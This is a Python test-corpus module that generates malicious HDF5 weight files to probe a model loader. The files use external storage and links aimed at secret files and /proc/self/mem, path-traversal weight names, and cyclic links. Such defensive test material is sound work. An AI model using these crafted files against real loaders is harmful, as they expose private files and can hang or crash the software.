"""HDF5 that leads to other files, or in circles."""

import numpy as np
from corpus import attack, attacks

KERNEL, BIAS = np.ones((3, 2), "float32"), np.zeros(2, "float32")
PLACE = "layers/dense/vars"


@attack("CVE-2026-1669: external storage")
def external_storage(lab):
    def fill(file):
        file.create_dataset(f"{PLACE}/0", (3, 2), "float32", external=[(str(lab.secret / "raw.bin"), 0, 24)])
        file[f"{PLACE}/1"] = BIAS

    return lab.weights(fill)


@attack("CVE-2026-1669: external storage that climbs")
def external_storage_that_climbs(lab):
    def fill(file):
        file.create_dataset(f"{PLACE}/0", (3, 2), "float32", external=[("../secret/raw.bin", 0, 24)])
        file[f"{PLACE}/1"] = BIAS

    return lab.weights(fill)


def _virtual(lab, source):
    import h5py

    layout = h5py.VirtualLayout((3, 2), "float32")
    layout[:] = h5py.VirtualSource(source, "x", (3, 2))

    def fill(file):
        file["x"] = KERNEL
        file.create_virtual_dataset(f"{PLACE}/0", layout)
        file[f"{PLACE}/1"] = BIAS

    return lab.weights(fill)


@attacks("CVE-2026-1669: virtual data sets", {"other": "{}/secret.h5", "own": "."})
def virtual(lab, source):
    return _virtual(lab, source.format(lab.secret))


LINKED = ("layers", "layers/dense", PLACE, f"{PLACE}/0")


@attacks("HDF5 user guide: external links", {place.replace("/", "_"): place for place in LINKED})
def external_link(lab, place):
    import h5py

    def fill(file):
        file[place] = h5py.ExternalLink(str(lab.secret / "secret.h5"), "/" if place != LINKED[-1] else "/x")

    return lab.weights(fill)


@attacks("HDF5 user guide: soft links", {place.replace("/", "_"): place for place in LINKED})
def soft_link(lab, place):
    import h5py

    def fill(file):
        file["elsewhere"] = KERNEL
        file.create_group("others")
        file[place] = h5py.SoftLink("/elsewhere" if place == LINKED[-1] else "/others")

    return lab.weights(fill)


@attack("CWE-835: a soft link to itself")
def soft_link_to_itself(lab):
    import h5py

    def fill(file):
        file["layers"] = h5py.SoftLink("/layers")

    return lab.weights(fill)


@attack("CWE-835: a group that is its own member, by a hard link")
def circle_of_groups(lab):
    def fill(file):
        group = file.create_group("layers/dense")
        group["vars"] = file["layers"]
        file["layers/0"] = file["layers"]

    return lab.weights(fill)


@attack("a link in an old file, in the place of a layer")
def external_link_in_old_file(lab):
    import h5py

    def edit(file):
        del file["model_weights/dense"]
        file["model_weights/dense"] = h5py.ExternalLink(str(lab.secret / "secret.h5"), "/")

    return lab.old(edit)


@attack("a link in an old file, in the place of all weights")
def external_link_as_all_weights(lab):
    import h5py

    def edit(file):
        del file["model_weights"]
        file["model_weights"] = h5py.ExternalLink(str(lab.secret / "secret.h5"), "/")

    return lab.old(edit)


@attack("CWE-22: names of weights in an old file that climb")
def climbing_weight_names(lab):
    def edit(file):
        file["model_weights/dense"].attrs["weight_names"] = [b"../../secret", b"/model_weights"]

    return lab.old(edit)


@attack("CVE-2026-1669: external storage in an old file")
def external_storage_in_old_file(lab):
    def edit(file):
        group = file["model_weights/dense"]
        name = group.attrs["weight_names"][0]
        del group[name]
        group.create_dataset(name, (3, 2), "float32", external=[(str(lab.secret / "raw.bin"), 0, 24)])

    return lab.old(edit)


@attack("HDF5: a user block before the file")
def user_block(lab):
    import h5py

    path = lab.folder / "w.h5"
    with h5py.File(path, "w", userblock_size=2**20) as file:
        file.create_group("other")
    from corpus import WEIGHTS

    return lab.pack({**lab.members(), WEIGHTS: path.read_bytes()})


@attack("HDF5: a family of files")
def external_file_space(lab):
    def fill(file):
        file.create_dataset(f"{PLACE}/0", (3, 2), "float32", external=[("/proc/self/mem", 0, 24)])

    return lab.weights(fill)
